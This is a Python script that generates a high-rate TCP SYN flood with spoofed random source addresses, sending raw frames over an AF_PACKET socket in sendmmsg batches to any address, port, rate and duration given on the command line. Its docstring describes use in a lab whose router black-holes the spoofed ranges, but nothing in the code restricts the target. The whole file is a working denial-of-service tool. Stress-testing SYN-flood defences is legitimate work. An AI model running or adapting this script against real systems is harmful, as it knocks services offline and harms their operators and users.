"""Sends SYNs with spoofed sources by AF_PACKET: syn_flood.py DEVICE MAC ADDRESS PORT RATE SECONDS.

RATE is SYNs a second. Prints how many were sent, and the rate that came of it. Sources are random addresses of
198.18.0.0/15 or 2001:db8:f::/48, which the lab's router knows as black holes; every checksum is right.
"""

import ctypes
import ipaddress
import random
import socket
import struct
import sys
import time

BATCH = 64
PREPARED = 64 * BATCH


class Iovec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]


class Message(ctypes.Structure):
    _fields_ = [
        ("name", ctypes.c_void_p),
        ("name_length", ctypes.c_uint32),
        ("iov", ctypes.POINTER(Iovec)),
        ("iov_length", ctypes.c_size_t),
        ("control", ctypes.c_void_p),
        ("control_length", ctypes.c_size_t),
        ("flags", ctypes.c_int),
        ("sent", ctypes.c_uint),
    ]


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total > 0xFFFF:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def syn(link, destination, port):
    options = bytes([2, 4, 5, 0xB4, 4, 2, 8, 10]) + random.randbytes(4) + bytes(4) + bytes([1, 3, 3, 7])
    header = struct.pack(
        "!HHIIBBHHH", random.randrange(1024, 65536), port, random.getrandbits(32), 0, 10 << 4, 2, 64240, 0, 0
    )
    body = header + options
    if destination.version == 4:
        source = socket.inet_aton("198.18.0.0")[:1] + bytes([18 + random.getrandbits(1)]) + random.randbytes(2)
        ip = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(body), 0, 0x4000, 64, 6, 0) + source + destination.packed
        ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
        kind = b"\x08\x00"
    else:
        source = ipaddress.ip_address("2001:db8:f::").packed[:6] + random.randbytes(10)
        ip = struct.pack("!IHBB", 6 << 28, len(body), 6, 64) + source + destination.packed
        kind = b"\x86\xdd"
    pseudo = source + destination.packed + struct.pack("!II", len(body), 6)
    body = body[:16] + struct.pack("!H", checksum(pseudo + body)) + body[18:]
    return link + kind + ip + body


def prepare(frames):
    messages = (Message * len(frames))()
    keep = []
    for message, frame in zip(messages, frames):
        buffer = ctypes.create_string_buffer(frame, len(frame))
        iov = Iovec(ctypes.cast(buffer, ctypes.c_void_p), len(frame))
        keep.append((buffer, iov))
        message.iov = ctypes.pointer(iov)
        message.iov_length = 1
    return messages, keep


def main():
    device, mac, address, port, rate, seconds = sys.argv[1:]
    sender = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    sender.bind((device, 0))
    link = bytes.fromhex(mac.replace(":", "")) + bytes([2, 0, 0, 0, 0, 0xF1])
    destination = ipaddress.ip_address(address)
    messages, _keep = prepare([syn(link, destination, int(port)) for _ in range(PREPARED)])
    sendmmsg = ctypes.CDLL(None, use_errno=True).sendmmsg
    size = ctypes.sizeof(Message)
    base = ctypes.addressof(messages)
    rate, seconds = float(rate), float(seconds)
    sent, at, began = 0, 0, time.monotonic()
    while True:
        now = time.monotonic() - began
        if now >= seconds:
            break
        if sent >= now * rate:
            time.sleep(0.0002)
            continue
        done = sendmmsg(sender.fileno(), ctypes.c_void_p(base + at * size), BATCH, 0)
        if done > 0:
            sent += done
        at = (at + BATCH) % PREPARED
    print(sent, round(sent / (time.monotonic() - began)))


main()
